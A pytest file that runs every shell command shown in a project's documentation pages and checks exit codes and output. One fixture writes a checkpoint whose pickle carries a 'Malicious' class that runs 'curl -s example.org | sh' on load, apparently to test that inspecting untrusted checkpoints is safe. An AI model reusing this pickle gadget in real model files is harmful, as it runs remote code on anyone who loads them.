"""Every command that a page shows is run, in a directory that has what the page takes for granted.

Those that need a cluster, the network, a GPU or minutes are in `NOT_RUN` with the reason; so a new command is run, or
somebody says why not. The costly ones are run with HEADWAY_FAULTS=full.
"""

from __future__ import annotations

import os
import pickle
import re
import shlex
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple
from zipfile import ZipFile

import pytest
import warm
from page_blocks import titled

from headway.cli import main

ROOT = Path(__file__).parents[2]
PAGES = [
    ROOT / "README.md",
    ROOT / "CONTRIBUTING.md",
    *sorted(ROOT.glob("docs/**/*.md")),
    *sorted(ROOT.glob("examples/**/README.md")),
]
TITLES = {"before": "another system's", "job.sh": "a cluster's"}
"""blocks that are files, and no commands"""
NOT_RUN = {
    r"headway submit |mpirun |srun |headway doctor --nodes ": "a cluster; tests/cluster, and dry runs in test_pages.py",
    r"make |source |pip install|\.venv/bin/python -m pytest|pytest ": "installs, or runs the tests themselves",
    r"python benchmarks/": "minutes: make bench",
    r"headway demo": "minutes: tests/cli/test_demo.py",
    r"headway web|headway runs --watch|headway watch runs --alert|.* \| tee ": "has no end",
    r"export ": "the alerts of a site",
    r"hf download ": "the network",
    r".*(--model Qwen3-8B|--data era5\.zarr|imagenet shards|--nproc 8)": "data, a model or GPUs that are not here",
    r".* examples/imagenet/train\.py --data shards|headway data (check|bench) shards/train": "ImageNet",
    r"headway runs sync ": "a tracker; tests/record",
    r"headway plan module |headway verify-resume .* --epochs": "a script of your own; tests/plan, tests/testing",
    r"headway data pack photos/": "photos of your own; tests/data",
    r"headway checkpoint export runs/(tune|finetune)": "a model with adapters; tests/train, examples/finetune",
}
COSTLY = re.compile(
    r"headway (verify-resume|doctor|plan search deepseek|run --(smoke|array)|run train|.* RUN$)"
    r"|.*examples/|HEADWAY_"
)
"""what `make test` leaves to HEADWAY_FAULTS=full, and tests of its own"""
TRAINED_ONCE = re.compile(r"headway run --nproc 2 train\.py")
"""what `make test` runs for the page to get started only"""
EXIT_CODES = {"headway plan preset llama-3.1-8b": 3, "headway runs rebuild": 2}
"""of a plan that does not fit, and of a run.json that is whole"""
CONFIRMED = ("headway runs rm", "headway runs archive")
"""commands that ask"""
SHOWN = ("headway plan preset", "headway checkpoint show downloaded.pt")
"""commands whose output on the page is what they print"""
FULL = os.environ.get("HEADWAY_FAULTS") == "full"


class Shown(NamedTuple):
    """A command of a page, and the lines that the page shows after it."""

    line: str
    output: list[str]


def shown(page: Path) -> Iterator[Shown]:
    for language, title, block in re.findall(
        r'^```(bash|console|sh|shell)(?: title="(.*?)")?\n(.*?)^```',
        page.read_text(),
        re.MULTILINE | re.DOTALL,
    ):
        if title in TITLES:
            continue
        assert not title, f"{page}: is {title!r} a command, or a file?"
        lines = block.replace("\\\n", " ").splitlines()
        for number, line in enumerate(lines):
            if language == "console" and not line.startswith("$ "):
                continue
            output = []
            for after in lines[number + 1 :] if language == "console" else []:
                if after.startswith("$ ") or after == "...":
                    break
                output.append(after)
            if command := re.sub(r"(^| +)#.*", "", line.removeprefix("$ ")).strip():
                yield Shown(re.sub(r" {2,}", " ", command), output)


def reason(line: str) -> str | None:
    return next((why for pattern, why in NOT_RUN.items() if re.match(pattern, line)), None)


def is_run(line: str, page: Path) -> bool:
    again = page.name != "get-started.md" and TRAINED_ONCE.match(line)
    return reason(line) is None and (FULL or not (again or COSTLY.match(line)))


def in_pages(pages: list[Path]) -> list[Path]:
    return [page for page in pages if any(is_run(each.line, page) for each in shown(page))]


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A directory after a training: runs with the ids of the pages, shards, files of others."""
    here = tmp_path_factory.mktemp("prepared")
    (here / "train.py").write_text(titled(ROOT / "docs" / "get-started.md", "train.py") or "")
    environ = os.environ | {"HEADWAY_LEDGER": "1"}
    done = warm.run(
        [sys.executable, "train.py"], cwd=here, env=environ, capture_output=True, text=True, timeout=200
    )
    assert done.returncode == 0, done.stderr
    (run,) = (here / "runs").iterdir()
    for other in ("digits-2026.11.15-14.30-x7k2", "rings-2026.11.15-14.30-m3p9"):
        shutil.copytree(run, here / "runs" / other)
        info = here / "runs" / other / "run.json"
        name = other.partition("-")[0]
        info.write_text(info.read_text().replace(run.name, other).replace('"rings"', f'"{name}"'))
    shutil.copytree(here / "runs", here / "scratch" / "runs")
    (here / "datasets" / "imagenet").mkdir(parents=True)
    (here / "datasets" / "imagenet" / "a.txt").touch()
    (here / "datasets" / "labels.csv").touch()
    shutil.copytree(ROOT / "tests" / "fixtures" / "mds", here / "mds" / "train")
    with ZipFile(here / "downloaded.pt", "w") as file:  # as torch.save writes it
        file.writestr("downloaded/data.pkl", pickle.dumps(Malicious(), protocol=2))
        file.writestr("downloaded/version", "3\n")
    for name in ("examples", "docs"):
        (here / name).symlink_to(ROOT / name)
    return here


class Malicious:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("curl -s example.org | sh",)


def restore_runs(prepared: Path, here: Path) -> None:
    """Puts back the runs that a command has removed."""
    for run in (prepared / "runs").iterdir():
        if not (here / "runs" / run.name).exists():
            shutil.copytree(run, here / "runs" / run.name)


def matching(word: str) -> list[str]:
    """What a shell makes of a word; RUN is the newest run."""
    if word == "RUN":
        return [str(max(Path("runs").iterdir(), key=lambda run: run.stat().st_mtime))]
    return sorted(map(str, Path().glob(word))) or [word] if "*" in word else [word]


def execute(line: str, here: Path, capfd: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """Runs a command line as a shell would: variables, patterns of files, and a file for its output."""
    words = shlex.split(
        line.replace("/scratch/me", f"{here}/scratch").replace("/datasets/", f"{here}/datasets/")
    )
    environ = dict(os.environ)
    while words[0].isupper() or re.match(r"[A-Z_]+=", words[0]):
        name, _, value = words.pop(0).partition("=")
        environ[name] = value
    out = Path(words[-1]) if words[-2:-1] == [">"] else None
    words = [each for word in words[: -2 if out else None] for each in matching(word)]
    words += ["--yes"] if line.startswith(CONFIRMED) else []
    capfd.readouterr()
    if words[0] == "headway" and words[1] not in ("run", "verify-resume"):
        try:
            code = main(words[1:])
        except SystemExit as end:
            code = int(end.code or 0)
        text, errors = capfd.readouterr()
    else:
        command = [sys.executable, *(["-m"] if words[0] == "headway" else []), *words[words[0] == "python" :]]
        done = warm.run(command, env=environ, capture_output=True, text=True, timeout=1500)
        code, text, errors = done.returncode, done.stdout, done.stderr
    if out is not None:
        out.write_text(text)
    return code, text + errors


@pytest.mark.timeout(3600)
@pytest.mark.parametrize("page", in_pages(PAGES), ids=lambda page: str(page.relative_to(ROOT)))
def test_commands_run_as_shown(
    page: Path,
    prepared: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    here = tmp_path / "here"
    shutil.copytree(prepared, here, symlinks=True)
    for name in ("train.py", "old.yaml"):
        if text := titled(page, name):
            (here / name).write_text(text)
    monkeypatch.chdir(here)
    (tmp_path / "node").mkdir()
    monkeypatch.setenv("SLURM_TMPDIR", str(tmp_path / "node"))
    monkeypatch.setenv("COLUMNS", "200")
    for line, output in shown(page):
        if is_run(line, page):
            restore_runs(prepared, here)
            code, text = execute(line, here, capfd)
            wanted = next((code for begin, code in EXIT_CODES.items() if line.startswith(begin)), 0)
            assert code == wanted, f"{line}: exit code {code}\n{text[-3000:]}"
            if line.startswith(SHOWN):
                assert [each for each in output if each.strip() not in text] == [], (
                    f"{line} prints\n{text[:3000]}"
                )


def test_reasons_are_needed() -> None:
    lines = [each.line for page in PAGES for each in shown(page)]
    assert len(lines) > 100
    assert [pattern for pattern in NOT_RUN if not any(re.match(pattern, line) for line in lines)] == []
